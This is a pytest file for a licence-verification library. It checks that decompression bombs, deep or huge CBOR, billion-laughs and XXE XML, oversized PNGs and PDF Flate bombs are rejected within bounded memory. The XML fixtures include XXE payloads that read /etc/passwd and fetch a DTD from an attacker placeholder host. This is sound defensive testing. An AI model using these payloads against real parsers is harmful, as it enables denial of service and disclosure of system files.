"""Resource exhaustion: every bomb is a typed error (or an INVALID verdict) within bounded memory.

Memory is measured, not time: ``tracemalloc`` peaks for Python-heap work (zlib, CBOR, XML, pyHanko
streams), and a subprocess under ``RLIMIT_AS`` for decoders that allocate in C (Pillow, pyHanko + zlib).
"""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import textwrap
import zlib
from pathlib import Path

import pytest

from conftest import NOW
from elicense.errors import ElicenseError, InputError, PayloadError, PayloadTooLarge, TrustError
from elicense.qr import cbor
from elicense.qr.base45 import b45encode
from elicense.qr.payload import PREFIX, unwrap
from elicense.verify import Status

from ._support import MiB, peak_memory, raises_typed


def _png_full(width: int, height: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def objstm_bomb(zeros: int = 200 * MiB) -> bytes:
    """A PDF whose catalogue sits in an object stream that inflates to ``zeros`` bytes (≈1000:1)."""
    body = b"3 0 <</Type/Catalog/Pages 4 0 R>> " + b" " * zeros
    comp = zlib.compress(body, 9)
    out = bytearray(b"%PDF-1.7\n")
    off1 = len(out)
    out += b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(comp)
    out += comp + b"\nendstream\nendobj\n"
    off2 = len(out)
    rows = b"".join(struct.pack(">BIH", *r) for r in [(0, 0, 65535), (1, off1, 0), (1, off2, 0), (2, 1, 0)])
    out += b"2 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 3 0 R/Length %d>>\nstream\n" % len(rows)
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % off2
    return bytes(out)


# -- QR payload ---------------------------------------------------------------------------------


def test_attack_zlib_bomb_in_qr_payload(verifier) -> None:  # type: ignore[no-untyped-def]
    bomb = zlib.compress(b"\0" * (64 * MiB), 9)[:3000]  # as much as a QR holds: inflates to ~3 MB
    text = PREFIX + b45encode(bomb)
    with peak_memory() as peak:
        exc = raises_typed(lambda: unwrap(text))
        result = verifier.verify(text, at=NOW)
    assert isinstance(exc, PayloadTooLarge)
    assert result.status is Status.INVALID and result.has_reason("payload_too_large")
    assert peak[0] < 1 * MiB  # bounded by MAX_DECOMPRESSED (16 KiB), not by the bomb


def test_attack_oversized_qr_text(verifier) -> None:  # type: ignore[no-untyped-def]
    text = PREFIX + "0" * (8 * MiB)
    with peak_memory() as peak:
        result = verifier.verify(text, at=NOW)
    assert result.status is Status.INVALID and result.has_reason("payload_too_large")
    assert peak[0] < 2 * MiB  # length checked before Base45 decoding


# -- CBOR ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\x9b" + b"\xff" * 8,  # array of 2^64-1 items
        b"\x5b\x00\x00\x00\x01\x00\x00\x00\x00",  # byte string of 4 GiB
        b"\x7b\x00\x00\x00\x01\x00\x00\x00\x00",  # text string of 4 GiB
        b"\xbb\x00\x00\x00\x00\xff\xff\xff\xff",  # map of 2^32-1 pairs
        b"\x81" * 100_000 + b"\x00",  # 100 000 nested arrays
        b"\xa1\x00" * 50_000 + b"\x00",  # 50 000 nested maps
        b"\xd8\x23" * 10_000 + b"\x00",  # 10 000 nested tags
    ],
    ids=["array-2^64", "bytes-4GiB", "text-4GiB", "map-2^32", "nested-arrays", "nested-maps", "nested-tags"],
)
def test_attack_huge_or_deep_cbor(data: bytes) -> None:
    with peak_memory() as peak:
        exc = raises_typed(lambda: cbor.loads(data))
    assert isinstance(exc, PayloadError)
    assert peak[0] < 4 * MiB


def test_attack_deep_cbor_in_bundle_and_status_list(verifier) -> None:  # type: ignore[no-untyped-def]
    import cbor2

    from elicense.status.statuslist import parse_status_list
    from elicense.trust.bundle import load_bundle

    deep = b"\x81" * 100_000 + b"\x00"
    message = cbor2.dumps(cbor2.CBORTag(18, [cbor2.dumps({1: -7}), {4: b"k"}, deep, b"\0" * 64]))
    with peak_memory() as peak:
        assert isinstance(raises_typed(lambda: load_bundle(message)), TrustError)
        raises_typed(lambda: parse_status_list(message))
    assert peak[0] < 4 * MiB


# -- XML trust lists ----------------------------------------------------------------------------

LAUGHS = (
    b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">
"""
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else b"%d" % (i - 1)) for _ in range(10)))
        for i in range(1, 10)
    )
    + b"""]>
<NationalTrustList xmlns="urn:elicense:trust-list:1">&lol9;</NationalTrustList>"""
)

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NationalTrustList xmlns="urn:elicense:trust-list:1"><Operator>&xxe;</Operator></NationalTrustList>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<NationalTrustList xmlns="urn:elicense:trust-list:1"/>"""

XXE_LATE = (
    b"<NationalTrustList xmlns='urn:elicense:trust-list:1'>"
    + b" " * 5000
    + (b"<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;</NationalTrustList>")
)  # a declaration past the first 4 KiB

UNDECLARED = b"<NationalTrustList xmlns='urn:elicense:trust-list:1'>&undeclared;</NationalTrustList>"


@pytest.mark.parametrize(
    "data",
    [LAUGHS, XXE_FILE, XXE_PARAMETER, XXE_LATE, UNDECLARED],
    ids=["billion-laughs", "xxe-file", "xxe-parameter-entity", "xxe-after-4k", "undeclared-entity"],
)
def test_attack_xml_entities(world, data: bytes) -> None:  # type: ignore[no-untyped-def]
    from elicense.trust.lists import keyinfo_certificates, read_national_list

    roots = list(world.home.trust_store().roots)
    with peak_memory() as peak:
        assert isinstance(raises_typed(lambda: read_national_list(data, roots=roots)), TrustError)
        assert isinstance(raises_typed(lambda: keyinfo_certificates(data)), TrustError)
    assert peak[0] < 4 * MiB
    assert b"root:" not in json.dumps(str(raises_typed(lambda: keyinfo_certificates(data)))).encode()


# -- images -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("width", "height"), [(60_000, 60_000), (1, 2**31 - 1), (7000, 7000)])
def test_attack_png_decompression_bomb(verifier, width: int, height: int) -> None:  # type: ignore[no-untyped-def]
    from elicense.qr.decode import read_payloads
    from elicense.verify.inputs import verify_bytes

    png = _png_full(width, height, zlib.compress(b"\0" * 4096))  # the header claims it; the pixel bound refuses
    raises_typed(lambda: verify_bytes(verifier, png, at=NOW))  # first use imports the image stack: not measured
    with peak_memory() as peak:
        exc = raises_typed(lambda: read_payloads(png))
        exc2 = raises_typed(lambda: verify_bytes(verifier, png, at=NOW))
    assert isinstance(exc, InputError) and isinstance(exc2, InputError)
    assert "pixels" in exc.message or "bomb" in exc.message
    assert peak[0] < 1 * MiB


# -- PDFs ---------------------------------------------------------------------------------------


def test_attack_flate_bomb_in_pdf_object_stream(verifier) -> None:  # type: ignore[no-untyped-def]
    data = objstm_bomb()
    with peak_memory() as peak:
        result = verifier.verify_pdf(data, at=NOW)
    assert result.status is Status.INVALID and result.has_reason("pdf_malformed")
    assert peak[0] < 48 * MiB  # decode limits: 4 MiB per object stream (pyHanko's default would allow 64)


def test_attack_flate_bomb_in_pdf_incremental_update(verifier, signed_pdf) -> None:  # type: ignore[no-untyped-def]
    from pyhanko.pdf_utils import generic

    from .test_pdf_incremental import incremental

    bomb = zlib.compress(b"\0" * (200 * MiB), 9)

    def edit(writer) -> None:  # type: ignore[no-untyped-def]
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        stream = generic.StreamObject(
            {generic.NameObject("/Filter"): generic.NameObject("/FlateDecode")}, encoded_data=bomb
        )
        page[generic.NameObject("/Contents")] = writer.add_object(stream)
        writer.update_container(page)

    data = incremental(signed_pdf, edit)
    with peak_memory() as peak:
        result = verifier.verify_pdf(data, at=NOW)
    assert result.status is Status.INVALID
    assert peak[0] < 48 * MiB


def test_attack_bombs_under_address_space_limit(world, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Decoders that allocate in C: run them under RLIMIT_AS = 1.5 GiB; a 3.6 G-pixel PNG or an
    unbounded 1 GiB Flate stream would die there with MemoryError instead of a typed error."""
    (tmp_path / "png").write_bytes(_png_full(60_000, 60_000, zlib.compress(b"\0" * 60_001 * 64)))
    (tmp_path / "pdf").write_bytes(objstm_bomb(1024 * MiB))
    script = textwrap.dedent(f"""
        import resource, sys
        from pathlib import Path
        resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
        from elicense.errors import ElicenseError
        from elicense.verify import Verifier
        from elicense.verify.inputs import verify_bytes
        v = Verifier.from_trust_file(Path({str(world.trust_file)!r}))
        for name in ("png", "pdf"):
            try:
                results = verify_bytes(v, (Path({str(tmp_path)!r}) / name).read_bytes())
                print(name, results[0].status.value, results[0].reasons[0].code)
            except ElicenseError as exc:
                print(name, "ERROR", type(exc).__name__)
    """)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.splitlines() == ["png ERROR InputError", "pdf INVALID pdf_malformed"]


# -- verify --batch -----------------------------------------------------------------------------


def test_attack_oversized_batch_line(world, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from elicense.cli import run

    batch = tmp_path / "batch.txt"
    good = world.issued["business-licence-jinan"].qr_payload
    with batch.open("wb") as fh:
        fh.write(good.encode() + b"\n")
        fh.write(b"EL2:" + b"A" * (32 * MiB) + b"\n")  # one 32 MiB line
        fh.write(b"\xff\xfe" * 100 + b"\n")
        fh.write(good.encode() + b"\n")
    short = tmp_path / "short.txt"
    short.write_bytes(good.encode() + b"\n")
    capsys.readouterr()
    with peak_memory() as baseline:  # loading the trust data costs the same in both runs
        run(["verify", "--batch", str(short), "--trust", str(world.trust_file), "--at", NOW.isoformat()])
    capsys.readouterr()
    with peak_memory() as peak:
        code = run(["verify", "--batch", str(batch), "--trust", str(world.trust_file), "--at", NOW.isoformat()])
    out = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert code == 3
    assert [o["status"] for o in out] == ["VALID", "ERROR", "ERROR", "VALID"]
    assert out[1]["error"]["code"] == "input" and out[1]["line"] == 2
    assert peak[0] - baseline[0] < 4 * MiB  # the 32 MiB line is never held in memory


def test_attack_oversized_input_file(world, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from elicense.cli import run
    from elicense.verify.inputs import MAX_INPUT_BYTES

    big = tmp_path / "big.qr.txt"
    with big.open("wb") as fh:
        fh.truncate(MAX_INPUT_BYTES + 10)  # sparse: costs no disk
    capsys.readouterr()
    code = run(["verify", str(big), "--trust", str(world.trust_file)])
    err = capsys.readouterr().err
    assert code == 3 and err.count("\n") == 1 and "too large" in err


def test_every_bomb_error_is_an_elicense_error() -> None:
    assert issubclass(PayloadTooLarge, ElicenseError) and issubclass(InputError, ElicenseError)
